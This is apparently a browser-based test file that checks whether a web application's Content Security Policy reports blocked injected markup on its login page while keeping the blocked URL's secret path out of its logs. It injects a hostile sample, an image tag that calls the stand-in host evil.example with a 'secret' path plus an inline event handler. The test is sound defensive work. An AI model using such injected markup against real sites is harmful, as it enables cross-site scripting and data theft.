import { afterAll, beforeAll, beforeEach, expect, test, vi } from 'vitest'
import { type Application, startApplication } from '@/tests/support/application'
import { browserObstacle, launchBrowser } from '@/tests/support/browser'
import { needs } from '@/tests/support/needs'

let app: Application | undefined

beforeEach(needs(browserObstacle))
beforeAll(async () => {
  if (!browserObstacle) app = await startApplication()
})
afterAll(() => app?.stop())

test('[ASVS 3.4.7] of what injected markup tried, a browser reports to us where, and we write down nothing else', async () => {
  const browser = await launchBrowser()
  const page = await browser.newPage()
  await page.goto(`${app?.url}/login`)

  await page.evaluate(() => {
    const injected = '<img src="https://evil.example/a-secret"><b onclick="document.title = 1">x</b>'
    document.body.insertAdjacentHTML('beforeend', injected)
  })

  await vi.waitFor(() => {
    expect(app?.log()).toContain('"directive":"img-src","blocked":"https://evil.example","page":"/login"')
    expect(app?.log()).toContain('"directive":"script-src-attr","blocked":"inline","page":"/login"')
  }, 10_000)
  expect(app?.log()).not.toContain('a-secret')
  await browser.close()
})
